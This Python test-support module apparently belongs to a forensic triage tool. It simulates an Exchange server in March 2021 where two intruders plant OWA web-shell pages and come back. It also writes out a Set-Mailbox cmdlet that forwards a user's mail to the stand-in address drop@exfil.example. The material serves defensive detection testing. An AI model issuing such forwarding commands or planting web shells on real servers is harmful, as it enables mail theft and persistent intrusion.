"""A server that was broken into, cleaned and collected again: two copies of its files.

The server is written once, from 1 to 13 March 2021, by files of a day; a copy of it is what was
there at an hour. Two intruders left a page each, one of them had a mailbox forwarded. On the 8th
the update of March 2021 was installed.
"""

import re
import shutil
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from extriage.casefile import load
from extriage.cli import main
from extriage.model.case import Case
from extriage.samples.chain import Intrusion
from extriage.samples.cmdlets import Ran
from extriage.samples.intrusion import acts
from extriage.samples.intrusion.scene import Scene, closed, named, opened
from extriage.samples.intrusion.two import PAGE_A, PAGE_B, A, B
from extriage.samples.scanners import knock
from extriage.samples.spec import ServerSpec
from extriage.samples.visitor import Visitor

FIRST, LAST = datetime(2021, 3, 1, tzinfo=UTC), datetime(2021, 3, 14, tzinfo=UTC)
FORWARDED = datetime(2021, 3, 3, 2, 11, 40, tzinfo=UTC)
CLIENT_B = "203.0.113.99"
"""No employee of the sample has this address now and then."""
BROKEN, CLEANED = datetime(2021, 3, 7, tzinfo=UTC), datetime(2021, 3, 8, 6, tzinfo=UTC)
AUTH = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
CMDLETS = "C/Program Files/Microsoft/Exchange Server/V15/Logging/CmdletInfra"
URL_A, URL_B = f"/owa/auth/{PAGE_A}".lower(), f"/owa/auth/{PAGE_B}".lower()
FILE_A, FILE_B = f"{AUTH}/{PAGE_A}", f"{AUTH}/{PAGE_B}"
NEW_PAGE = "zr0Tn4.aspx"
_DAY = re.compile(r"(?:ex|_|Server|Generator)(?:20)?(\d{6})(?:\d\d)?(?:-\d)?\.log$", re.IGNORECASE)
_MARCH = (("2106,13,", "2507,75,"), ("2106.013", "2507.075"), ("2106.13", "2507.75"))
"""The update of March 2021, and the newest of all, as logs write them."""
_TIME = re.compile(r'"SystemTime": ?"(\d{4}-\d\d-\d\dT[\d:]+)')


@dataclass(frozen=True)
class Intruders:
    """What both of them use, to let them come back."""

    scene: Scene
    plans: dict[str, Intrusion]


def server(folder: Path, *deeds: Callable[[Intruders], None], name: str = "EX01") -> Path:
    """Write the server with what happened to it afterwards."""
    spec = ServerSpec(
        name=name, start=FIRST, end=LAST, lines=10_000, hours_per_file=24, iis_bytes=True,
        patched_at=CLEANED,
    )  # fmt: skip
    scene = opened(spec)
    plans, visitors = {}, []
    for page, who, day in ((PAGE_A, A, 2), (PAGE_B, B | {"client": CLIENT_B}, 3)):
        visitor = Visitor(page)
        plans[page] = acts.plan(scene.ledger, scene.rng, page, who)
        time = FIRST.replace(day=day, hour=2, minute=11)
        acts.break_in(scene.ledger, scene.rng, time, plans[page], visitor)
        visitors.append(visitor)
    for image in ("lgnbotl.gif", "lgntopl.gif"):
        path = f"{spec.install}FrontEnd\\HttpProxy\\owa\\auth\\{image}"
        scene.ledger.page(path, FIRST, "GIF89a" + image, None)
    forward(FORWARDED, "smtp:drop@exfil.example")(Intruders(scene, plans))
    for deed in deeds:
        deed(Intruders(scene, plans))
    closed(scene, folder, visitors)
    return folder


def forward(time: datetime, target: str) -> Callable[[Intruders], None]:
    """Have a mailbox forwarded, or not any more (`$null`)."""

    def deed(on: Intruders) -> None:
        mail = named(on.scene.users, "novak").mail
        value = f'"{target}"' if target else "$null"
        words = f'-Identity "{mail}" -ForwardingSmtpAddress {value}'
        ledger = on.scene.ledger
        ledger.cmdlet(Ran(time, ledger.org.admin, "Set-Mailbox", words))

    return deed


def orders(time: datetime, page: str) -> Callable[[Intruders], None]:
    """Let an intruder give his page orders again."""

    def deed(on: Intruders) -> None:
        acts.order(on.scene.ledger, on.scene.rng, time, on.plans[page], Visitor("back"))

    return deed


def another_page(time: datetime, of: str) -> Callable[[Intruders], None]:
    """Let an intruder come back with a page of another name, from his address, with his canary."""

    def deed(on: Intruders) -> None:
        ledger, was = on.scene.ledger, on.plans[of]
        folder = f"{ledger.spec.install}FrontEnd\\HttpProxy\\owa\\auth\\"
        now = replace(was, shell=f"{folder}{NEW_PAGE}", url=f"/owa/auth/{NEW_PAGE}")
        acts.break_in(ledger, on.scene.rng, time, now, Visitor("back"))

    return deed


def refused(time: datetime, page: str) -> Callable[[Intruders], None]:
    """Let an intruder look for his page, which is gone."""

    def deed(on: Intruders) -> None:
        ledger, plan = on.scene.ledger, on.plans[page]
        asked = knock(ledger, on.scene.rng, time, plan.url, "Owa")
        asked = replace(asked, client=plan.client, agent=plan.agent, status=302)
        ledger.web(asked)

    return deed


def copy(
    world: Path,
    to: Path,
    until: datetime,
    *,
    without: Iterable[str] = (),
    since: datetime = FIRST,
    newest: bool = False,
) -> Path:
    """Collect what the server had at an hour; `without` are beginnings of paths that are missing.

    With `newest` the newest update was installed instead of that of March 2021.
    """
    left_out = tuple(without)
    for file in sorted(path for path in world.rglob("*") if path.is_file()):
        name = file.relative_to(world).as_posix()
        if name.startswith(left_out):
            continue
        day = _DAY.search(name)
        if day and not f"{since:%y%m%d}" <= day[1] < f"{until:%y%m%d}":
            continue
        target = to / name
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(file, target)
        if name.endswith(".jsonl"):
            lines = file.read_text("utf-8").splitlines(keepends=True)
            kept = [line for line in lines if _within(line, since, until)]
            target.write_text("".join(kept), "utf-8")
        elif newest and day:
            text = target.read_bytes().decode()
            for was, now in _MARCH:
                text = text.replace(was, now)
            target.write_bytes(text.encode())
    return to


def _within(line: str, since: datetime, until: datetime) -> bool:
    found = _TIME.search(line)
    return found is None or since <= datetime.fromisoformat(f"{found[1]}+00:00") < until


def shells(world: Path, *pages: str) -> tuple[str, ...]:
    """Return the files of pages, their compiled forms too."""
    names = [path.relative_to(world).as_posix() for path in world.rglob("*") if path.is_file()]
    return tuple(name for name in names if name.rpartition("/")[2].lower().startswith(
        tuple(page.lower() for page in pages)))  # fmt: skip


def scan(evidence: Path, case: Path, *words: str) -> Case:
    """Scan as a user would; return the case."""
    with pytest.raises(SystemExit) as stop:
        main(["scan", str(evidence), "--case", str(case), "-q", "--jobs", "1", *words])
    assert stop.value.code in (0, 1, 3)
    return load(case)
